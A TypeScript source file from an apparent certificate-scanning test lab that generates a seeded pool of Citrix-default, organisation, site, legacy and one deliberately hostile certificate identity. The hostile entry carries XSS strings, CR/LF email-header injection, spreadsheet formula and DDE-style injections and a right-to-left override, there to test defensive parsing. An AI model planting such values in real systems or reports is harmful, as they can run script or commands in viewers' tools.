/**
 * Certificate identities of the lab (names only, no keys): a deterministic pool of 65 subjects
 * derived from the seed, so the truth file is the same for the same seed even though keys are
 * generated afresh at every start (certs.ts turns identities into SecureContexts).
 *
 * Pools: Citrix factory defaults (`O=Citrix ANG, OU=NS Internal, CN=default XXXXXX`, self-signed,
 * serial 01, RSA-1024, a few RSA-2048), organisation certificates issued by the lab CA
 * (vpn.<org>.example or *.<org>.example), ordinary web sites, and legacy defaults (RSA-1024 and
 * RSA-512, served only over TLS 1.0), and one hostile certificate issued by the lab CA whose names
 * carry markup, quotes, a right-to-left override, a 300+ character name and CR/LF header-injection
 * attempts (the `citrix-hostile-names` and `hostile-site` personas; see HOSTILE below).
 */
import { prng, saltOf } from './rand.js';

export type IdentityPool = 'citrix-default' | 'org' | 'site' | 'legacy' | 'hostile';
export type KeyKind = 'rsa-512' | 'rsa-1024' | 'rsa-2048' | 'ec-p256';

/** One certificate subject of the pool (what the truth file records). */
export interface CertIdentity {
  id: number;
  pool: IdentityPool;
  cn: string;
  sans: string[];
  /** Subject O= (the organisation), or null. */
  org: string | null;
  /** Subject DN in `C=.., O=.., CN=..` form. */
  subject: string;
  /** Issuer DN (equals subject when self-signed). */
  issuer: string;
  selfSigned: boolean;
  key: KeyKind;
  /** Hex serial number. */
  serial: string;
  /** Served only with TLS 1.0 and weak RSA ciphers. */
  legacy: boolean;
  /**
   * Exact subject attributes, in order, each encoded as a UTF8String as given (no DN-string parsing or
   * escaping). Set for the hostile identity only: its values contain DN separators, quotes and
   * control characters that a DN string cannot carry faithfully.
   */
  subjectAttrs?: ReadonlyArray<{ type: 'C' | 'O' | 'CN'; value: string }>;
}

const RLO = '\u202e';
/** A 300+ character host-name-like string (labels ≤ 63, but the whole is over the 253 limit). */
const LONG_NAME = `${[
  'secure-remote-access-gateway-for-the-evil-clinic-north-wing-01',
  'patient-portal-and-citrix-workspace-for-staff-working-at-home',
  'this-label-goes-on-and-on-to-make-tables-and-mails-overflow-x',
  'another-very-long-label-that-a-certificate-may-legally-carry',
  'and-the-last-one-before-the-reserved-top-level-domain-of-tests',
].join('.')}.example`;

/**
 * The hostile certificate (customer-controlled text on a real device: anyone can put anything in a
 * certificate they upload or self-sign). Subject O and CN are UTF8Strings and carry markup, quotes,
 * a right-to-left override (U+202E), the long name and a CR/LF "Bcc:" header-injection attempt; the
 * CN starts with a spreadsheet formula. SANs are dNSName (IA5String): ASCII only, so no RLO there
 * (IA5 cannot carry it), but a formula (first, so a joined SAN cell starts with it), CR/LF, quotes,
 * markup and the long name are encoded byte for byte; one SAN is an ordinary name.
 */
export const HOSTILE = {
  org: 'Evil "Clinic" <script>alert(1)</script>',
  cn: `=HYPERLINK("https://evil.example/","open") '"><script>alert(2)</script> ${RLO}lmth.xedni ${LONG_NAME}\r\nBcc: attacker@evil.example`,
  sans: [
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'vpn.evil-clinic.example',
    'x.example\r\nBcc: attacker@evil.example',
    '"><img src=x onerror=alert(3)>.evil-clinic.example',
    LONG_NAME,
  ],
  longName: LONG_NAME,
} as const;

export const LAB_CA_DN = 'C=NL, O=Edgewatch Lab, CN=Edgewatch Lab Issuing CA';
const CITRIX_DEFAULT_DN = 'C=US, ST=California, L=San Jose, O=Citrix ANG, OU=NS Internal';

/** Fictional organisations (all under the reserved .example TLD). */
export const ORGS = [
  'Acme Health',
  'Northwind Logistics',
  'Contoso Care',
  'Fabrikam Energy',
  'Globex Municipality',
  'Initech Insurance',
  'Umbrella Clinics',
  'Stark Freight',
  'Wayne County',
  'Tyrell Research',
  'Cyberdyne Water',
  'Hooli University',
  'Vandelay Imports',
  'Wonka Foods',
  'Soylent Hospital',
  'Massive Dynamic',
  'Oscorp Labs',
  'Aperture Science',
  'Black Mesa Transit',
  'Gringotts Bank',
  'Nakatomi Trading',
  'Duff Brewing',
  'Monarch Aviation',
  'Zorg Industries',
] as const;

const SITES = [
  'Brightside Bakery',
  'Harbor Dental',
  'Maple School',
  'Orbit News',
  'Pine Valley Library',
  'Quartz Realty',
  'Riverbend Hotel',
  'Sunrise Sports',
] as const;

export const POOL_SIZES: Readonly<Record<IdentityPool, number>> = {
  'citrix-default': 24,
  org: 24,
  site: 12,
  legacy: 4,
  hostile: 1,
};

const SALT = saltOf('identity');

function slug(name: string): string {
  return name.toLowerCase().replace(/[^a-z0-9]+/g, '-');
}

function letters(rnd: () => number, n: number, alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'): string {
  let s = '';
  for (let i = 0; i < n; i++) s += alphabet[Math.floor(rnd() * alphabet.length)];
  return s;
}

function hexSerial(rnd: () => number): string {
  // 16 hex digits, first nibble 1..7 so the DER integer stays positive and non-zero.
  return (1 + Math.floor(rnd() * 7)).toString(16) + letters(rnd, 15, '0123456789abcdef');
}

/** The identity pool for a seed, in pool order: citrix-default, org, site, legacy, hostile. */
export function identityPool(seed: number): CertIdentity[] {
  const rnd = prng(seed ^ SALT);
  const out: CertIdentity[] = [];
  const push = (x: Omit<CertIdentity, 'id'>) => out.push({ id: out.length, ...x });
  for (let i = 0; i < POOL_SIZES['citrix-default']; i++) {
    const cn = `default ${letters(rnd, 6)}`;
    const subject = `${CITRIX_DEFAULT_DN}, CN=${cn}`;
    push({
      pool: 'citrix-default',
      cn,
      sans: [],
      org: 'Citrix ANG',
      subject,
      issuer: subject,
      selfSigned: true,
      key: i < 1 ? 'rsa-2048' : 'rsa-1024',
      serial: '01',
      legacy: false,
    });
  }
  for (let i = 0; i < POOL_SIZES.org; i++) {
    const org = ORGS[i % ORGS.length] as string;
    const domain = `${slug(org)}.example`;
    // DIVD saw wildcard certificates on most vulnerable Gateways (450 of 700): about 2 in 3 here.
    const wildcard = rnd() < 0.65;
    const cn = wildcard ? `*.${domain}` : `vpn.${domain}`;
    const sans = wildcard ? [`*.${domain}`, domain] : [`vpn.${domain}`, `gateway.${domain}`];
    push({
      pool: 'org',
      cn,
      sans,
      org,
      subject: `C=NL, O=${org}, CN=${cn}`,
      issuer: LAB_CA_DN,
      selfSigned: false,
      key: i < 1 ? 'rsa-2048' : 'ec-p256',
      serial: hexSerial(rnd),
      legacy: false,
    });
  }
  for (let i = 0; i < POOL_SIZES.site; i++) {
    if (i < SITES.length) {
      const org = SITES[i] as string;
      const domain = `${slug(org)}.example`;
      const cn = `www.${domain}`;
      push({
        pool: 'site',
        cn,
        sans: [cn, domain],
        org,
        subject: `C=NL, O=${org}, CN=${cn}`,
        issuer: LAB_CA_DN,
        selfSigned: false,
        key: 'ec-p256',
        serial: hexSerial(rnd),
        legacy: false,
      });
    } else if (i < SITES.length + 2) {
      const subject = 'CN=localhost';
      push({
        pool: 'site',
        cn: 'localhost',
        sans: ['localhost'],
        org: null,
        subject,
        issuer: subject,
        selfSigned: true,
        key: 'ec-p256',
        serial: hexSerial(rnd),
        legacy: false,
      });
    } else {
      const cn = `WIN-${letters(rnd, 11, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')}`;
      const subject = `CN=${cn}`;
      push({
        pool: 'site',
        cn,
        sans: [cn],
        org: null,
        subject,
        issuer: subject,
        selfSigned: true,
        key: 'ec-p256',
        serial: hexSerial(rnd),
        legacy: false,
      });
    }
  }
  for (let i = 0; i < POOL_SIZES.legacy; i++) {
    const cn = `default ${letters(rnd, 6)}`;
    const subject = `${CITRIX_DEFAULT_DN}, CN=${cn}`;
    push({
      pool: 'legacy',
      cn,
      sans: [],
      org: 'Citrix ANG',
      subject,
      issuer: subject,
      selfSigned: true,
      key: i < 2 ? 'rsa-1024' : 'rsa-512',
      serial: '01',
      legacy: true,
    });
  }
  // Last, so the seeded draws of the other pools are unchanged by its presence.
  for (let i = 0; i < POOL_SIZES.hostile; i++) {
    push({
      pool: 'hostile',
      cn: HOSTILE.cn,
      sans: [...HOSTILE.sans],
      org: HOSTILE.org,
      subject: `C=NL, O=${HOSTILE.org}, CN=${HOSTILE.cn}`,
      issuer: LAB_CA_DN,
      selfSigned: false,
      key: 'ec-p256',
      serial: hexSerial(rnd),
      legacy: false,
      subjectAttrs: [
        { type: 'C', value: 'NL' },
        { type: 'O', value: HOSTILE.org },
        { type: 'CN', value: HOSTILE.cn },
      ],
    });
  }
  return out;
}

/** Index of the first identity of a pool inside identityPool()'s array. */
export function poolStart(pool: IdentityPool): number {
  const order: IdentityPool[] = ['citrix-default', 'org', 'site', 'legacy', 'hostile'];
  let start = 0;
  for (const p of order) {
    if (p === pool) return start;
    start += POOL_SIZES[p];
  }
  return start;
}
